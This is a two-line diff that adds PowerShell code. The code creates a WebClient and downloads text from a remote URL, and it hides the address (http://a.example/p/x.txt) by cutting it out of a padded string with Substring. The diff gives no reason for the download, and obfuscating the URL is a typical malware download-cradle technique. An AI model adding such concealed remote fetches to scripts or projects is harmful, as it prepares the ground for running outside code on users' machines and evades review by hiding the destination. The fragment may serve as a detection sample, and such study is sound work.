@@ -1,0 +1,2 @@
+$wc = New-Object System.Net.WebClient
+$wc.DownloadString(('xxxhttp://a.example/p/x.txtyyy'.Substring(3,24)))
